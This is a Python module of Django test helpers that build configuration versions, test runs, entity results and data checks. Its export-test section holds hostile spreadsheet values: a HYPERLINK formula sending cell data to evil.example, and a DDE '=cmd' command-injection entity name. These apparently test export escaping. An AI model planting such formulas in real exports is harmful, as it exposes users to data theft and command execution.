"""The rows tests build directly in the database: versions, runs and entity results, one cast for all.

Plain functions (no factory library): each writes exactly the fields it is given on top of the model's
defaults, so a test still says everything its assertion depends on. Fixtures in ``tests/conftest.py`` wrap
the ones many modules share.
"""

import hashlib
import shutil
from datetime import datetime, timedelta
from pathlib import Path

from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import timezone

from configurations.models import Configuration, ConfigurationVersion
from testruns.models import EntityResult, RunCheck, Status, TestRun
from testruns.options import RunOptions

REPO = Path(__file__).resolve().parent.parent
DEMO = REPO / "examples" / "demo"
DEMO_YAML = DEMO / "demo.yml"
# shared/ sits beside the repository (as in CI and on developer machines)
SHARED_DATA = REPO.parent / "shared" / "data"
CONFORMANCE_V2 = SHARED_DATA / "conformance-v2"  # format-2 cases with the reference tool's expected tables
UPSTREAM = SHARED_DATA / "upstream-projects"  # the reference repository's own projects (see its README)


def copy_case(source: Path, into: Path) -> Path:
    """A copy of the folder ``source`` (a conformance case, an upstream project) under ``into``; returns it.

    Tests import copies: an import must never depend on (or write beside) the shared originals.
    """
    target = into / source.name
    shutil.copytree(source, target)
    return target


# --- versions -----------------------------------------------------------------------------------------------


def make_version(configuration="other", number=1, *, current=False, **fields) -> ConfigurationVersion:
    """A version row without bundled files, for pages that list runs and never load the project.

    ``configuration`` is a Configuration or the name of one (made if new). ``current`` makes the version the
    configuration's current one.
    """
    if isinstance(configuration, str):
        configuration, _ = Configuration.objects.get_or_create(name=configuration)
    fields.setdefault("main_file", f"{configuration.name}.yml")
    fields.setdefault("yaml_text", "")
    fields.setdefault("sha256", hashlib.sha256(f"{configuration.name} {number}".encode()).hexdigest())
    version = ConfigurationVersion.objects.create(configuration=configuration, number=number, **fields)
    if current:
        Configuration.objects.filter(pk=configuration.pk).update(current_version=version)
        configuration.current_version = version
    return version


# --- runs and their entity results --------------------------------------------------------------------------


def make_run(version, status=Status.PENDING, entities=(), **fields) -> TestRun:
    """A run of ``version`` in ``status``, with one entity result per item of ``entities``.

    An item is an entity name or a dict of EntityResult fields (``entity`` among them); positions follow
    the list. Nothing else is set: timestamps, counters and options are the test's to give.
    """
    run = TestRun.objects.create(
        configuration=version.configuration, version=version, status=status, **fields
    )
    EntityResult.objects.bulk_create(
        EntityResult(run=run, position=position, **({"entity": item} if isinstance(item, str) else item))
        for position, item in enumerate(entities)
    )
    return run


def make_runs(version, created, **fields) -> list[TestRun]:
    """One run of ``version`` per item of ``created``, in that order, in one INSERT.

    An item is the run's ``created_at``, or a dict of the fields of that run alone (``created_at`` among
    them); ``fields`` go to every run.
    """
    return TestRun.objects.bulk_create(
        TestRun(
            configuration=version.configuration,
            version=version,
            **fields,
            **(item if isinstance(item, dict) else {"created_at": item}),
        )
        for item in created
    )


def minutes_apart(count: int, start: datetime | None = None) -> list[datetime]:
    """``count`` moments one minute apart, the newest (``start``, default now) first."""
    start = start or timezone.now()
    return [start - timedelta(minutes=i) for i in range(count)]


def make_result(run, entity="site", position=None, *, content: bytes | None = None, **fields) -> EntityResult:
    """An entity result of ``run``, after its others unless ``position`` is given.

    ``content`` is stored as the entity's output table (``runs/<run>/<entity>.csv``, "/" as "_").
    """
    if position is None:
        position = run.entity_results.count()
    if content is not None:
        name = f"runs/{run.pk}/{entity.replace('/', '_')}.csv"
        fields["output"] = default_storage.save(name, ContentFile(content))
    return EntityResult.objects.create(run=run, position=position, entity=entity, **fields)


def run_for_real(version, user, capture, options: RunOptions | None = None) -> TestRun:
    """Start a run of ``version`` and let it finish in this process (django-q2 sync mode); returns it fresh.

    ``capture`` is pytest-django's ``django_capture_on_commit_callbacks``: the task is enqueued on commit.
    """
    from testruns.execution import start_run

    with capture(execute=True):
        run = start_run(version, options or RunOptions(), user)
    run.refresh_from_db()
    return run


# --- runs the export tests share ----------------------------------------------------------------------------

LONG = "an_entity_name_longer_than_excel_allows"  # 39 characters: two of these clash after the cut
SITE_CSV = "site_id,code,area,note,flag\n1,007,1.5,=1+1,True\n2,010,,plain \x07bell,False\n"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"x")'
HUGE_CELL = "a" * 1_200_000  # beyond csv's default field limit (131,072) and Excel's cell limit (32,767)
HOSTILE_CONFIG = """
entities:
  "=cmd|' /C calc'!A0":
    type: csv
    options: {filename: notes.csv, dtype: str, keep_default_na: false}
    columns: ["id", "text", '=HYPERLINK("http://evil.example/?x="&A2,"x")']
"""


def make_exportable_run(version, user) -> TestRun:
    """A finished run with odd entity names, typed columns, a failed and a skipped entity (no files).

    Loaded with ``TestRun.objects.for_export``, as the exports load it.
    """

    run = make_run(
        version,
        Status.COMPLETED,
        requested_by=user,
        options={"max_rows_per_entity": 100},
        entities_total=5,
        entities_completed=5,
        entities_succeeded=3,
        entities_failed=1,
        entities_skipped=1,
    )
    make_result(
        run, "site", 0, content=SITE_CSV.encode(), status="success", rows_in=10, rows_out=2, duration_ms=12,
        columns=["site_id", "code", "area", "note", "flag"],
        dtypes={"site_id": "int64", "code": "object", "area": "float64", "note": "object", "flag": "bool"},
        warnings=["2 rows dropped as duplicates"],
        issues=[{"severity": "warning", "code": "x", "message": "note is empty", "location": "demo.yml:3"}],
    )  # fmt: skip
    make_result(
        run,
        "sample/type",
        1,
        content="name\nÄpfel\n".encode(),
        status="success",
        rows_out=1,
        columns=["name"],
    )
    make_result(
        run, LONG + "_1", 2, content=b"a\n1\n", status="success", rows_out=1, columns=["a"], role="dependency"
    )
    make_result(
        run, LONG + "_2", 3, status="failed", error="KeyError: 'no_such_column'", traceback="Traceback …"
    )
    make_result(run, "after_broken", 4, status="skipped", error="depends on a failed entity")
    return TestRun.objects.for_export().get(pk=run.pk)


def make_hostile_run(write_config, user, capture) -> TestRun:
    """A real run (django-q2 sync mode) of an entity named like a formula, with a header like a formula
    and a cell of 1.2 million characters; loaded with ``TestRun.objects.for_export``."""
    from configurations.importing import import_configuration

    quoted = '"' + FORMULA.replace('"', '""') + '"'
    notes = f"id,text,{quoted}\n1,{HUGE_CELL},=1+1\n2,#N/A,-2\n"
    version, _ = import_configuration(write_config(HOSTILE_CONFIG, notes__csv=notes), user=user)
    run = run_for_real(version, user, capture)
    assert run.status == Status.COMPLETED, run.error_message
    return TestRun.objects.for_export().get(pk=run.pk)


# --- a run that ran to its end with an entity that failed ---------------------------------------------------

FAILING_ENTITY = """
entities:
  survey:
    type: csv
    options: {filename: survey.csv, sep: ";", dtype: str, keep_default_na: false}
    columns: [site, sample]
  site:
    type: csv
    options: {filename: missing.csv, sep: ";"}
    keys: [site]
    columns: [site]
    surrogate_id: site_id
  site_note:
    source: site
    columns: [site_id]
  sample:
    source: survey
    keys: [sample]
    columns: [sample, no_such_column]
    surrogate_id: sample_id
"""  # missing.csv is never written: site fails, site_note (reading it) is skipped, the others succeed
# (sample with a warning about no_such_column)


def run_with_a_failing_entity(write_config, user, capture, name="broken") -> TestRun:
    """Import FAILING_ENTITY as configuration ``name`` and run it for real: one failed, one skipped."""
    from configurations.importing import import_configuration

    path = write_config(FAILING_ENTITY, name=f"{name}.yml", survey__csv="site;sample\nA;1\nB;2\n")
    version, _ = import_configuration(path, name=name, user=user)
    return run_for_real(version, user, capture)


# --- a run whose data was checked -------------------------------------------------------------------------

CHECK_SOURCE = "Mini model 1.0 (mini.yml, chosen for the configuration)"


def add_check(run, position, entity, kind, status, severity="error", **fields) -> RunCheck:
    return RunCheck.objects.create(
        run=run,
        position=position,
        origin=fields.pop("origin", RunCheck.Origin.TARGET_MODEL),
        source=fields.pop("source", CHECK_SOURCE),
        entity=entity,
        kind=kind,
        severity=severity,
        status=status,
        **fields,
    )


def make_checked_run(version, user) -> TestRun:
    """A finished run of two entities with four checks: an error, a warning, a skipped one, a passed one."""
    run = make_run(
        version,
        Status.FAILED,
        requested_by=user,
        started_at=timezone.now(),
        finished_at=timezone.now(),
        entities_total=2,
        entities_completed=2,
        entities_succeeded=2,
        checks_total=4,
        checks_failed=1,
    )
    make_result(run, "site", 0, status="success", rows_out=3, columns=["system_id", "site_name"])
    make_result(run, "sample", 1, status="success", rows_out=2, columns=["system_id", "depth"])
    add_check(
        run, 0, "site", "not_null", "failed", columns=["site_name"], failing_rows=25,
        message="entity 'site': column 'site_name' is not nullable in the model but has 25 null values",
        sample=[{"system_id": i, "site_name": None} for i in range(1, 21)],
    )  # fmt: skip
    add_check(
        run, 1, "sample", "type", "failed", "warning", columns=["depth"], failing_rows=1,
        message="entity 'sample': column 'depth': 1 of 2 value(s) are not integer (declared type 'integer')",
        sample=[{"system_id": 2, "depth": "x"}],
    )  # fmt: skip
    add_check(
        run, 2, "sample", "equals_baseline", "skipped", origin=RunCheck.Origin.CONFIGURATION,
        source="the configuration's checks: section", message="not checked: no baseline run",
        reason="no baseline run",
    )  # fmt: skip
    add_check(run, 3, "site", "required_entity", "passed", message="entity 'site' produced a table (3 rows)")
    return run
